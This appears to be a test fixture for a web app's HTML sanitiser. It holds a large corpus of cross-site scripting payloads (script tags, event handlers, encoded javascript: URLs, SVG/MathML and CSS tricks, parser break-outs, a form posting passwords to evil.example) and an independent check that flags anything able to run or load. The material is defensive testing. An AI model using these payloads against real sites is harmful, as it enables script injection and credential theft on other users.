import { DomUtils, parseDocument } from 'htmlparser2';

type ChildNode = ReturnType<typeof parseDocument>['children'][number];
type Element = Extract<ChildNode, { attribs: Record<string, string> }>;

/**
 * Hostile rich text, for the sanitiser's tests (lib/sanitize.test.ts) and the route tests that
 * store it through the real calls and read it back through the API and the rendered pages
 * (features/discussions/xss.routes.test.ts). `keeps` is harmless text the sanitiser must not lose.
 *
 * `inertProblems` is the independent check: it does not use the sanitiser's allow-list, it parses
 * HTML the way the sanitiser's output is read and lists everything that could run, load, navigate,
 * submit or hide/overlay. An empty list means inert.
 */
export interface XssPayload {
  name: string;
  html: string;
  keeps?: string;
}

const PNG_1PX = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
const SVG_B64 = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64');
const HTML_B64 = Buffer.from('<script>alert(1)</script>').toString('base64');

export const XSS_CORPUS: readonly XssPayload[] = [
  // Script tags in many forms
  { name: 'plain script', html: '<p>before</p><script>alert(1)</script><p>after</p>', keeps: 'after' },
  { name: 'upper-case script with src', html: '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>' },
  { name: 'mixed-case script', html: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script split by a script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script with slash attribute', html: '<script/xss src="https://evil.example/x.js"></script>' },
  { name: 'double angle script', html: '<<script>alert(1);//<</script>' },
  { name: 'unclosed script', html: '<p>text</p><script>alert(1)', keeps: 'text' },
  { name: 'module script', html: '<script type="module">import("https://evil.example/x.js")</script>' },
  { name: 'script closing inside comment', html: '<script>/*</script><img src=x onerror=alert(1)>*/</script>' },
  { name: 'script in table', html: '<table><tr><td><script>alert(1)</script>cell</td></tr></table>', keeps: 'cell' },

  // Event handlers on every kind of tag
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
  { name: 'upper-case ONERROR', html: '<IMG SRC="x" ONERROR="alert(1)">' },
  { name: 'slash-separated attributes', html: '<img/src="x"/onerror="alert(1)">' },
  { name: 'attribute glued after a quote', html: '<img alt="x"onerror="alert(1)" src=x>' },
  { name: 'body onload', html: '<body onload=alert(1)><p>hi</p></body>', keeps: 'hi' },
  { name: 'paragraph onclick', html: '<p onclick="alert(1)">click me</p>', keeps: 'click me' },
  { name: 'link onmouseover', html: '<a href="https://ok.example/" onmouseover="alert(1)">site</a>', keeps: 'site' },
  { name: 'div onpointerenter', html: '<div onpointerenter=alert(1)>x</div>' },
  { name: 'span onanimationstart', html: '<span style="animation-name:spin" onanimationstart=alert(1)>x</span>' },
  { name: 'heading onfocus tabindex', html: '<h2 tabindex=1 onfocus=alert(1) autofocus>Title</h2>', keeps: 'Title' },
  { name: 'video onerror', html: '<video src=x onerror=alert(1)></video>' },
  { name: 'audio onloadstart', html: '<audio src="/uploads/a.mp3" onloadstart=alert(1) controls></audio>' },
  { name: 'source onerror', html: '<video controls><source src=x onerror=alert(1)></video>' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)><summary>s</summary></details>' },
  { name: 'input autofocus onfocus', html: '<input autofocus onfocus=alert(1)>' },
  {
    name: 'select and textarea onfocus',
    html: '<select autofocus onfocus=alert(1)></select><textarea autofocus onfocus=alert(1)></textarea>',
  },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>m</marquee>' },
  {
    name: 'table cell handlers',
    html: '<table onclick=alert(1)><tr onmouseover=alert(1)><td onmouseenter=alert(1)>c</td></tr></table>',
  },
  {
    name: 'list and quote handlers',
    html: '<ul onclick=alert(1)><li onclick=alert(1)>i</li></ul><blockquote onclick=alert(1)>q</blockquote>',
  },
  { name: 'code and pre handlers', html: '<pre onclick=alert(1)><code onclick=alert(1)>c</code></pre>' },
  { name: 'handler with vertical tab', html: '<img src=x onerror\u000b=alert(1)>' },
  { name: 'handler at end of input', html: '<img src=x onerror=alert(1)//' },

  // javascript: and vbscript: URLs, in every encoding
  { name: 'javascript href', html: '<a href="javascript:alert(1)">x</a>' },
  { name: 'mixed-case javascript', html: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'hex entity j', html: '<a href="&#x6A;avascript:alert(1)">x</a>' },
  { name: 'upper X hex entity', html: '<a href="&#X6a;avascript:alert(1)">x</a>' },
  { name: 'decimal entity j', html: '<a href="&#106;avascript:alert(1)">x</a>' },
  {
    name: 'whole scheme as decimal entities without semicolons',
    html: '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
  },
  {
    name: 'padded entities',
    html: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  },
  { name: 'entity colon', html: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'numeric colon', html: '<a href="javascript&#58;alert(1)">x</a><a href="javascript&#x3A;alert(1)">y</a>' },
  { name: 'entity tab in scheme', html: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'named Tab and NewLine', html: '<a href="jav&Tab;ascr&NewLine;ipt:alert(1)">x</a>' },
  { name: 'literal tab and newline', html: '<a href="java\tscr\nipt:alert(1)">x</a>' },
  { name: 'carriage return entity', html: '<a href="jav&#x0D;ascript:alert(1)">x</a>' },
  { name: 'leading spaces', html: '<a href="   javascript:alert(1)">x</a>' },
  {
    name: 'leading control character',
    html: '<a href="&#14;javascript:alert(1)">x</a><a href="\u0001javascript:alert(1)">y</a>',
  },
  { name: 'null inside scheme', html: '<a href="java&#0;script:alert(1)">x</a>' },
  { name: 'percent-encoded scheme', html: '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>' },
  { name: 'percent-encoded colon', html: '<a href="javascript%3Aalert(1)">x</a>' },
  { name: 'vbscript', html: '<a href="vbscript:msgbox(1)">x</a><a href="VbScRiPt:msgbox(1)">y</a>' },
  { name: 'javascript img src', html: '<img src="javascript:alert(1)"><img src="  JAVASCRIPT:alert(1)">' },
  {
    name: 'javascript video poster and source',
    html: '<video poster="javascript:alert(1)" controls><source src="javascript:alert(1)"></video>',
  },
  {
    name: 'data: html link',
    html: `<a href="data:text/html;base64,${HTML_B64}">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>`,
  },
  { name: 'data: svg image', html: `<img src="data:image/svg+xml;base64,${SVG_B64}">` },
  { name: 'data: image not base64', html: '<img src="data:image/png,%3Csvg%20onload=alert(1)%3E">' },
  {
    name: 'data: png image',
    html: `<p>logo</p><img src="data:image/png;base64,${PNG_1PX}" alt="px">`,
    keeps: 'logo',
  },
  {
    name: 'protocol-relative link',
    html: '<a href="//evil.example/">x</a><a href="\\\\evil.example/">y</a><a href="/\\evil.example/">z</a>',
  },
  {
    name: 'unknown schemes',
    html: '<a href="file:///etc/passwd">a</a><a href="mhtml:x">b</a><img src="ftp://evil.example/x.png">',
  },
  { name: 'dotless i in scheme', html: '<a href="javascr\u0131pt:alert(1)">x</a>' },
  {
    name: 'line separator before scheme',
    html: '<a href="&#x2028;javascript:alert(1)">x</a><a href="\ufeffjavascript:alert(1)">y</a>',
  },

  // SVG and MathML
  { name: 'svg onload', html: '<svg onload=alert(1)>' },
  { name: 'svg script', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg xlink link', html: '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>X</text></a></svg>' },
  { name: 'svg animate', html: '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>' },
  { name: 'svg set href', html: '<svg><a><set attributeName=href to=javascript:alert(1) /><text>t</text></a></svg>' },
  {
    name: 'svg foreignObject iframe',
    html: '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  },
  { name: 'svg style differential', html: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  { name: 'math href', html: '<math href="javascript:alert(1)">click</math>' },
  {
    name: 'math mglyph mutation',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  {
    name: 'math maction',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  },

  // CSS tricks
  { name: 'expression()', html: '<p style="width: expression(alert(1))">x</p>' },
  { name: 'url(javascript:)', html: '<span style="background-image: url(javascript:alert(1))">x</span>' },
  { name: 'url in colour', html: '<span style="color: url(&quot;https://evil.example/x&quot;)">x</span>' },
  {
    name: 'fixed overlay',
    html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff">Log in again</div>',
  },
  { name: 'absolute on an allowed tag', html: '<p style="text-align:center;position:absolute;top:0">x</p>' },
  { name: 'display none', html: '<span style="display:none">hidden</span>' },
  { name: 'visibility hidden', html: '<span style="visibility:hidden">hidden</span>' },
  { name: 'opacity zero', html: '<span style="opacity:0">hidden</span>' },
  {
    name: 'transparent colours',
    html: '<span style="color: transparent">a</span><span style="color: rgba(0,0,0,0)">b</span><span style="color:#0000">c</span>',
  },
  {
    name: 'tiny and huge font sizes',
    html: '<span style="font-size:1px">a</span><span style="font-size:9999px">b</span><span style="font-size:0">c</span>',
  },
  { name: 'negative margins', html: '<span style="font-size:12px;margin-top:-9999px">x</span>' },
  { name: '@import in style tag', html: "<style>@import 'https://evil.example/x.css';</style>" },
  { name: 'style tag hiding the page', html: '<style>body{display:none}</style>' },
  { name: 'behavior and -moz-binding', html: '<span style="behavior:url(x.htc);-moz-binding:url(x.xml#xss)">x</span>' },
  { name: 'css escapes in property', html: '<span style="\\70 osition:fixed;\\63olor:red">x</span>' },
  { name: 'css rule break-out', html: '<span style="color:#f00;}body{display:none">x</span>' },
  { name: 'duplicate property with expression', html: '<span style="color:red;color:expression(alert(1))">x</span>' },
  { name: 'link stylesheet', html: '<link rel=stylesheet href="https://evil.example/x.css">' },

  // Malformed nesting and unclosed tags
  { name: 'misnested formatting', html: '<p><b><i>x</p></b></i><img src=x onerror=alert(1)' },
  { name: 'nested links', html: '<a href="https://ok.example/"><a href="javascript:alert(1)">x</a></a>' },
  { name: 'unclosed attribute quote', html: '<img src="x onerror="alert(1)">' },
  { name: 'double angle img', html: '<<img src=x onerror=alert(1)//<' },
  { name: 'tag inside a tag', html: '<p <img src=x onerror=alert(1)>>' },
  { name: 'closing tags first', html: '</p></div><img src=x onerror=alert(1)>' },
  { name: 'div closes p around img', html: '<div><p></div><img src=x onerror=alert(1)></p>' },
  { name: 'deep nesting', html: `${'<span>'.repeat(300)}deep${'</span>'.repeat(300)}`, keeps: 'deep' },

  // Comments and CDATA
  { name: 'img in comment', html: '<!--<img src=x onerror=alert(1)>-->' },
  { name: 'comment ended by --!>', html: '<!-- --!><img src=x onerror=alert(1)> -->' },
  { name: 'empty comment <!-->', html: '<!--><img src=x onerror=alert(1)>-->' },
  { name: 'conditional comment', html: '<!--[if IE]><script>alert(1)</script><![endif]-->' },
  { name: 'CDATA', html: '<![CDATA[<img src=x onerror=alert(1)>]]>' },
  {
    name: 'processing instruction and doctype',
    html: '<?xml version="1.0"?><!DOCTYPE html><img src=x onerror=alert(1)>',
  },

  // Documents, navigation and submission
  { name: 'base href', html: '<base href="https://evil.example/"><base href="javascript:alert(1)//">' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'form action', html: '<form action="javascript:alert(1)"><button>Go</button></form>' },
  {
    name: 'form action to another site',
    html: '<form action="https://evil.example/steal" method=post><input name=password></form>',
  },
  { name: 'button formaction', html: '<button formaction="javascript:alert(1)">x</button>' },
  { name: 'input type image', html: '<input type=image src=x onerror=alert(1)>' },
  {
    name: 'object data',
    html: `<object data="javascript:alert(1)"></object><object data="data:text/html;base64,${HTML_B64}"></object>`,
  },
  { name: 'embed', html: `<embed src="javascript:alert(1)"><embed src="data:image/svg+xml;base64,${SVG_B64}">` },
  { name: 'iframe javascript', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  { name: 'iframe video host', html: '<iframe src="https://www.youtube.com/embed/x" allowfullscreen></iframe>' },
  { name: 'frameset', html: '<frameset><frame src="javascript:alert(1)"></frameset>' },
  {
    name: 'applet and isindex',
    html: '<applet code="x.class"></applet><isindex action="javascript:alert(1)" type=image>',
  },

  // Parsing differentials (raw-text and template elements)
  { name: 'template', html: '<template><img src=x onerror=alert(1)></template>' },
  {
    name: 'noscript title break-out',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  { name: 'noembed break-out', html: '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>' },
  { name: 'xmp break-out', html: '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>' },
  { name: 'textarea break-out', html: '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>' },
  { name: 'title break-out', html: '<title><img title="</title><img src=x onerror=alert(1)>"></title>' },
  { name: 'iframe break-out', html: '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>' },
  { name: 'style break-out', html: '<style><img title="</style><img src=x onerror=alert(1)>"></style>' },
  { name: 'plaintext', html: '<plaintext><img src=x onerror=alert(1)>' },
  { name: 'select template', html: '<select><template><img src=x onerror=alert(1)></template></select>' },

  // Attribute injection by quotes
  {
    name: 'quote in single-quoted title',
    html: `<a href="https://ok.example/" title='x" onmouseover="alert(1)'>x</a>`,
  },
  {
    name: 'escaped quote in title',
    html: '<a href="https://ok.example/" title="a&quot; onclick=&quot;alert(1)">x</a>',
  },
  { name: 'backtick attribute', html: '<img src=`x` onerror=alert(1)><img alt=`` onerror=alert(1)>' },
  { name: 'angle brackets in alt', html: '<img src="/uploads/a.png" alt="<script>alert(1)</script>">' },
  {
    name: 'quote in href',
    html: '<a href="https://ok.example/?q=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
  },
  {
    name: 'id and name clobbering',
    html: '<img name="cookie" id="location" src="/uploads/a.png"><a id="defaultView" href="https://ok.example/">x</a>',
  },

  // Unicode tricks
  { name: 'full-width brackets', html: '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e' },
  { name: 'turkish dotted I in tag name', html: '<scr\u0130pt>alert(1)</scr\u0130pt>' },
  { name: 'soft hyphen in scheme', html: '<a href="java\u00adscript:alert(1)">x</a>' },
  { name: 'right-to-left override', html: '<a href="https://ok.example/\u202egnp.exe">x</a>' },
  { name: 'unicode escapes in handler', html: '<img src=x onerror="\\u0061lert(1)">' },
  { name: 'zero-width in tag name', html: '<scr\u200bipt>alert(1)</scr\u200bipt>' },

  // Link rules
  {
    name: 'target other than _blank',
    html: '<a href="https://ok.example/" target="_top">a</a><a href="https://ok.example/" target="opener">b</a>',
    keeps: 'a',
  },
  { name: 'rel opener kept out', html: '<a href="https://ok.example/" rel="opener" target="_blank">x</a>' },
];

// ---------------------------------------------------------------------------------------------
// The inert check

/** Elements that are harmless in a post: formatting, lists, tables, links, images, media. */
const HARMLESS_ELEMENTS = new Set([
  'p',
  'br',
  'hr',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'blockquote',
  'pre',
  'code',
  'strong',
  'b',
  'em',
  'i',
  'u',
  's',
  'del',
  'strike',
  'sub',
  'sup',
  'span',
  'mark',
  'a',
  'ul',
  'ol',
  'li',
  'table',
  'colgroup',
  'col',
  'thead',
  'tbody',
  'tfoot',
  'tr',
  'th',
  'td',
  'caption',
  'img',
  'figure',
  'figcaption',
  'audio',
  'video',
  'source',
  'div',
]);

const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'poster',
  'cite',
  'action',
  'formaction',
  'data',
  'background',
  'srcset',
  'xlink:href',
  'codebase',
  'dynsrc',
  'lowsrc',
  'longdesc',
  'manifest',
  'ping',
  'usemap',
]);

/** Style declarations that only colour, size or align text, with their values. */
const HARMLESS_STYLE: Record<string, (v: string) => boolean> = {
  color: (v) => isOpaqueColour(v),
  'background-color': (v) => isOpaqueColour(v),
  'font-size': (v) => {
    const m = /^(\d+)px$/.exec(v);
    return m !== null && Number(m[1]) >= 12 && Number(m[1]) <= 72;
  },
  'text-align': (v) => ['left', 'center', 'right', 'justify'].includes(v),
};

function isOpaqueColour(v: string): boolean {
  if (/^#(?:[0-9a-f]{3}|[0-9a-f]{6})$/i.test(v)) return true;
  const m = /^rgb\(\s*(\d{1,3})\s*,\s*(\d{1,3})\s*,\s*(\d{1,3})\s*\)$/i.exec(v);
  return m !== null && [m[1], m[2], m[3]].every((n) => Number(n) <= 255);
}

/** How a browser reads the scheme of a URL attribute: tabs and newlines removed, C0 and spaces trimmed. */
function schemeOf(value: string): { scheme: string | null; url: string } {
  // eslint-disable-next-line no-control-regex
  const url = value.replace(/[\t\n\r]/g, '').replace(/^[\x00-\x20]+|[\x00-\x20]+$/g, '');
  const m = /^([a-z][a-z0-9+.-]*):/i.exec(url);
  return { scheme: m ? m[1]!.toLowerCase() : null, url };
}

function urlProblem(tag: string, attr: string, value: string): string | null {
  if (attr !== 'href' && attr !== 'src' && attr !== 'poster') return `URL attribute ${attr} on <${tag}>`;
  const { scheme, url } = schemeOf(value);
  // eslint-disable-next-line no-control-regex
  if (/[\x00-\x1f\x7f]/.test(url)) return `control character in ${attr} of <${tag}>`;
  const allowed =
    tag === 'a' ? ['http', 'https', 'mailto'] : tag === 'img' ? ['http', 'https', 'data'] : ['http', 'https'];
  // A scheme that only shows once spaces and invisible characters are removed is refused too.
  const loose = schemeOf(url.replace(/[\s\p{Cc}\p{Cf}]/gu, '')).scheme;
  if (loose !== null && loose !== scheme && !allowed.includes(loose))
    return `hidden scheme ${loose}: in ${attr} of <${tag}>`;
  if (scheme === null) {
    return /^[/\\]{2}/.test(url) ? `protocol-relative ${attr} ${JSON.stringify(value)} on <${tag}>` : null;
  }
  if (!allowed.includes(scheme)) return `scheme ${scheme}: in ${attr} of <${tag}>`;
  if (scheme === 'data' && !/^data:image\/(?:png|jpeg|gif);base64,[a-z0-9+/]+={0,2}$/i.test(url)) {
    return `data: URL that is not a base64 PNG/JPEG/GIF in <${tag}>`;
  }
  return null;
}

function styleProblems(tag: string, style: string): string[] {
  const problems: string[] = [];
  if (/[\\@]|\/\*|url\s*\(|expression|behaviou?r|binding|[{}<>]/i.test(style)) {
    problems.push(`style of <${tag}> holds ${JSON.stringify(style)}`);
  }
  for (const decl of style.split(';')) {
    if (decl.trim() === '') continue;
    const i = decl.indexOf(':');
    const prop = (i < 0 ? decl : decl.slice(0, i)).trim().toLowerCase();
    const value = (i < 0 ? '' : decl.slice(i + 1))
      .replace(/!\s*important\s*$/i, '')
      .trim()
      .toLowerCase();
    const ok = HARMLESS_STYLE[prop];
    if (!ok || !ok(value)) problems.push(`style ${prop}: ${value} on <${tag}>`);
  }
  return problems;
}

function elementProblems(el: Element): string[] {
  const tag = el.name.toLowerCase();
  const problems: string[] = [];
  if (!HARMLESS_ELEMENTS.has(tag)) problems.push(`element <${tag}>`);
  for (const [rawName, value] of Object.entries(el.attribs)) {
    const name = rawName.toLowerCase();
    if (name.startsWith('on')) problems.push(`event handler ${name} on <${tag}>`);
    else if (name === 'id' || name === 'name' || name === 'form') problems.push(`${name} attribute on <${tag}>`);
    else if (name === 'srcdoc' || name === 'http-equiv') problems.push(`${name} on <${tag}>`);
    else if (name === 'style') problems.push(...styleProblems(tag, value));
    else if (URL_ATTRIBUTES.has(name)) {
      const p = urlProblem(tag, name, value);
      if (p) problems.push(p);
    }
  }
  if (tag === 'a' && el.attribs.href !== undefined) {
    const rel = (el.attribs.rel ?? '').split(/\s+/);
    if (!['noopener', 'noreferrer', 'nofollow'].every((r) => rel.includes(r))) {
      problems.push(`link without rel="noopener noreferrer nofollow"`);
    }
  }
  if (el.attribs.target !== undefined && el.attribs.target !== '_blank') {
    problems.push(`target ${el.attribs.target}`);
  }
  return problems;
}

/** Every problem of the nodes and their descendants (elements, comments, CDATA, directives). */
export function inertProblemsOfNodes(nodes: readonly ChildNode[]): string[] {
  const problems: string[] = [];
  const walk = (list: readonly ChildNode[]) => {
    for (const node of list) {
      if (DomUtils.isComment(node)) problems.push('comment');
      else if (DomUtils.isCDATA(node)) problems.push('CDATA section');
      else if (node.type === 'directive') problems.push(`directive ${node.data}`);
      else if (DomUtils.isTag(node)) {
        problems.push(...elementProblems(node));
        walk(node.children);
      }
    }
  };
  walk(nodes);
  return problems;
}

/**
 * What in `html` could run script, load or navigate by itself, submit, or hide/overlay the page:
 * an empty list means inert. Besides the parsed tree, the raw text is searched for any tag that
 * opens a script, style or foreign context, so that a parser differential cannot hide one.
 */
export function inertProblems(html: string): string[] {
  const problems = inertProblemsOfNodes(parseDocument(html, { decodeEntities: true }).children);
  const raw =
    /<\s*\/?\s*(script|style|iframe|frame|object|embed|applet|svg|math|base|meta|link|form|input|button|textarea|select|template|noscript|noembed|noframes|xmp|plaintext|title|isindex)\b/i.exec(
      html,
    );
  if (raw) problems.push(`raw <${raw[1]}> in the markup`);
  return problems;
}
